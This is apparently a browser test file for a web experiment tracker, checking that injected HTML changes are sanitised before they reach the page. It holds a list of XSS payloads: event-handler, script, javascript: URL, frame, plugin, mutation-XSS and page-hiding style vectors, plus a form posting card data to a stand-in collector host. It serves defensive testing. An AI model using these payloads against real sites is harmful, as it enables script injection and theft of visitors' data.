import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startExperimentHarness, visitorIn, type ExperimentHarness } from './support/experiment-harness.js';
import { pause } from './support/tracker-harness.js';
import { page } from './support/experiment-fixtures.js';

// An `html` change is what a key holder writes into every page carrying the tag. Whatever it says,
// the page script puts only sanitised markup there (DOMPurify, in the `?p=` script): each attempt
// below would run, fetch, frame or capture something if it reached the page as written.
const ATTACKS = [
  `<img id="img" src="/nothing.png" onerror="window.ran.push('onerror')">`,
  `<script>window.ran.push('script')</script>`,
  `<a id="js-link" href="javascript:window.ran.push('javascript-url')">tap</a>`,
  `<svg><animate onbegin="window.ran.push('svg-animate')" attributeName="x" dur="1s"></animate></svg>`,
  `<details open ontoggle="window.ran.push('ontoggle')"><summary>s</summary></details>`,
  `<iframe srcdoc="<script>parent.ran.push('iframe')</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.ran.push('object')</script>"></object>`,
  `<embed src="data:text/html,<script>parent.ran.push('embed')</script>">`,
  `<form action="https://collector.example/steal"><input name="card"></form>`,
  `<style>body { display: none }</style>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.ran.push('mxss')"></style></mglyph></table></mtext></math>`,
].join('');
const KEPT = `<strong id="kept">Half price</strong> <a id="own-link" href="/demo/pricing">today</a>`;

describe('an html change in the browser', () => {
  let h: ExperimentHarness;
  beforeAll(async () => {
    h = await startExperimentHarness();
  });
  afterAll(() => h.close());

  it('keeps its markup but runs no script, loads no frame or plugin and adds no form or page-wide style', async () => {
    // `ran` exists before the tracker (the first script in <head>) applies anything.
    h.page(
      '/test/html',
      page(`<div id="target">Old offer</div>`).replace('<head>', `<head><script>window.ran = [];</script>`),
    );
    h.setConfig({
      experiments: [
        {
          id: 'exp_html',
          page: '/test/html',
          type: 'nocode',
          variants: [{ changes: [] }, { changes: [{ selector: '#target', op: 'html', value: KEPT + ATTACKS }] }],
        },
      ],
    });
    const tab = await (await h.person(visitorIn(['exp_html', 2, 1]))).newPage();
    const dialogs: string[] = [];
    tab.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await tab.goto(`${h.origin}/test/html`);
    await tab.locator('#kept').waitFor({ state: 'attached' });
    // A javascript: link that survived would run on a click; give load and error events time to fire.
    await tab.evaluate(() => document.getElementById('js-link')?.click());
    await pause(1_000);

    const result = await tab.evaluate(() => {
      const target = document.getElementById('target')!;
      return {
        ran: (window as unknown as { ran: string[] }).ran,
        kept: [target.querySelector('#kept')?.textContent, target.querySelector('#own-link')?.getAttribute('href')],
        dangerous: Array.from(
          target.querySelectorAll('script, iframe, object, embed, form, style'),
          (el) => el.localName,
        ),
        handlers: Array.from(target.querySelectorAll('*')).flatMap((el) =>
          el.getAttributeNames().filter((a) => a.startsWith('on')),
        ),
        jsUrls: Array.from(target.querySelectorAll('[href], [src], [data]')).filter((el) =>
          /javascript:|data:text/i.test(el.outerHTML),
        ).length,
        bodyShown: getComputedStyle(document.body).display !== 'none',
      };
    });
    expect(result).toEqual({
      ran: [],
      kept: ['Half price', '/demo/pricing'],
      dangerous: [],
      handlers: [],
      jsUrls: 0,
      bodyShown: true,
    });
    expect(dialogs).toEqual([]);
  });
});
